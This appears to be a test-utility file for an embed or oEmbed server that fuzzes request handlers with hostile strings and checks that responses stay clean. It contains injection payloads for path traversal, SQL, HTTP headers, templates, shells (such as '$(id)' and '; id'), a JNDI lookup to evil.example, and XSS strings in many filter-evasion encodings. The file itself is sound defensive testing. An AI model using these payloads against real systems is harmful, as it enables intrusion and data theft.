import { expect } from "vitest";
import { hostileAddresses, hostileStrings, trickyAddresses } from "../output/hostile-strings.test.util.js";
import { elementsIn } from "../output/read-back.test.util.js";

/** What is sent to servers, to reach a file, a database, a header, a template or a prototype. */
const requestStrings: readonly string[] = [
  // Files
  ["../", "..\\", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%c0%af", "....//", "/./"].map(
    (up) => `${up}${up}etc/passwd`,
  ),
  ["/etc/passwd%00.html", "C:\\windows\\win.ini", "file:///etc/passwd", "\\\\evil.example\\share", "con", "nul"],
  // Databases
  ["' or '1'='1", "1; drop table revision", "' union select hash from token --", '" or ""="', "1) or (1=1", "%' --"],
  ["x' and randomblob(1e9) --", "$1", "{$gt: ''}", "\u0000", "a\u0000b", "*", "_%"],
  // Headers
  ["x\r\nSet-Cookie: a=b", "x\nX-Evil: 1", "x\r\n\r\n<script>alert(1)</script>", "%0d%0aSet-Cookie:%20a=b"],
  ["\u560a\u560dSet-Cookie: a=b", "x%E5%98%8A%E5%98%8DX: 1", "bytes=0-", 'W/"x"', '"', '*, "x"'],
  // Templates, logs, shells
  ["${7*7}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "; id", "| id"],
  ["%n%s%x", "%s%s%s%s", "\u001b[2J", "!!js/function >\n  x", "=cmd|' /C calc'!A0"],
  // Prototypes and numbers
  ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__proto__[polluted]", "a[]", "a[b]=c"],
  [
    "NaN",
    "Infinity",
    "-1",
    "0",
    "1e309",
    "99999999999999999999",
    "0x10",
    "1.5",
    " 1",
    "1 ",
    "١",
    "-0",
    "undefined",
    "null",
  ],
  // Days
  ["0000-00-00", "2026-02-30", "2026-13-01", "9999-12-31", "0000-01-01", "-000001-01-01", "+275760-09-14", "2026-3-5"],
  ["2026-03-05T00:00:00Z", "2026-03-05 ", "@2026-03-05", "２０２６-03-05", "20260305"],
  // Addresses
  [
    "//evil.example",
    "https://evil.example",
    "https://embeds.example@evil.example/",
    "https://embeds.example.evil.example/",
  ],
  [
    "https://embeds.example:443@evil.example",
    "http://embeds.example/embed/port-wages/timeline",
    "https://[::1]/",
    "https://",
  ],
  ['https://embeds.example/embed/port-wages/timeline?published="><script>', "https://embeds.example/\\evil.example"],
  // What a server may choke on
  [
    "%",
    "%zz",
    "%ff",
    "%u003c",
    "&",
    "&&&",
    "=",
    "#",
    "?",
    ";",
    "+",
    "\u202e",
    "\ufeff",
    "\ud83d",
    "🇺🇦",
    "é",
    "e\u0301",
  ],
  ["a".repeat(1900), "%".repeat(600), "/".repeat(600), "[".repeat(600), "&a=b".repeat(300), "../".repeat(300)],
].flat();

/** Each one in the ways in which filters are often avoided. */
const disguised = [
  "<script>alert(1)</script>",
  '"><svg onload=alert(1)>',
  "' onclick=alert(1) x='",
  "javascript:alert(1)//",
].flatMap((text) => [
  encodeURIComponent(text),
  encodeURIComponent(encodeURIComponent(text)),
  text.toUpperCase(),
  text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  text.replaceAll("<", "&lt;").replaceAll('"', "&quot;"),
  text.replaceAll("<", "\\u003c"),
  text.replaceAll("<", "\\x3c"),
  Array.from(text).join("\u0000"),
  Array.from(text).join("\t"),
  `\ufeff${text}`,
  `${text}%00`,
  `%0a${text}`,
  `</textarea>${text}`,
  `]]>${text}`,
  `*/${text}/*`,
  `\u0001${text}\u0001`,
  `\u2028${text}`,
  `+ADw-${text}`,
  `{"a":"${text}"}`,
  `<!--${text}-->`,
  text.repeat(20),
]);

/** Every string that a handler is attacked with. */
export const attacks: readonly string[] = [
  ...new Set([...requestStrings, ...disguised, ...hostileStrings, ...hostileAddresses, ...trickyAddresses]),
];

/** Elements, with the names of their attributes: hostile words must not add to them. */
export const shapeOf = (html: string): string[] => elementsIn(html).map(shapeOfOne);

const shapeOfOne = ({ tagName, attrs }: ReturnType<typeof elementsIn>[number]): string =>
  [tagName, ...attrs.map(({ name }) => name)].join(" ");

/** What an embed is made of: words, tables, lists, links. The head and the one script are the page's own. */
const peaceful =
  /^(html|head|body|main|section|h[1-6]|p|a|ul|ol|li|dl|dt|dd|details|summary|div|span|strong|em|b|i|s|del|ins|q|cite|time|bdi|br|blockquote|table|thead|tbody|tr|th|td|caption)$/;
const ownHead =
  /^(meta (charset|name content|http-equiv content|property content)|title|link rel( type)? href( title)?|style|script)$/;

/** What of a page could run, look like the page's own or lead somewhere: there must be none of it. */
export function dangersIn(html: string, usual: readonly string[]): string[] {
  const head = shapeOf(html).filter((element) => ownHead.test(element));
  const others = elementsIn(html).filter((element) => !ownHead.test(shapeOfOne(element)));
  const known = usual.filter((element) => ownHead.test(element));
  return [
    ...(head.length > known.length ? [`more of a head than the page's own: ${head.join()}`] : []),
    ...others.filter(({ tagName }) => !peaceful.test(tagName)).map(({ tagName }) => tagName),
    ...others.flatMap(({ attrs }) =>
      attrs.flatMap(({ name, value }) => {
        const isCode = /^(on|style$|src|formaction$|action$|xlink)/.test(name);
        const isAway = name === "href" && !/^(#|https?:\/\/)/.test(value);
        return isCode || isAway ? [`${name}=${value}`] : [];
      }),
    ),
  ];
}

/** What must be true of any answer. Gives the body. */
export async function harmless(response: Response, attack: string): Promise<string> {
  expect(response.status, attack).not.toBe(500);
  for (const [name, value] of response.headers) expect(`${name}: ${value}`, attack).not.toMatch(/[\r\n\0]|evil/i);
  expect([response.headers.has("Set-Cookie"), response.headers.has("Location")], attack).toEqual([false, false]);
  const text = await response.text();
  const type = response.headers.get("Content-Type") ?? "";
  if (type.includes("json")) expect(() => JSON.parse(text) as unknown, attack).not.toThrow();
  if (type.includes("xml")) expect(strangeIn(text), attack).toEqual([]);
  return text;
}

/** What of an XML answer is neither a tag of oEmbed nor an entity that XML knows. */
function strangeIn(xml: string): string[] {
  const tags = xml.match(/<[^>]*>?/g) ?? [];
  const known = /^<(\?xml version="1\.0" encoding="utf-8" standalone="yes"\?|\/?[a-z]+(_[a-z]+)?)>$/;
  const entities = xml.match(/&(?!(?:amp|lt|gt|quot|#x27);).{0,5}/g) ?? [];
  return [
    ...tags.filter((tag) => !known.test(tag)),
    ...entities,
    ...(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/.exec(xml) ?? []),
  ];
}
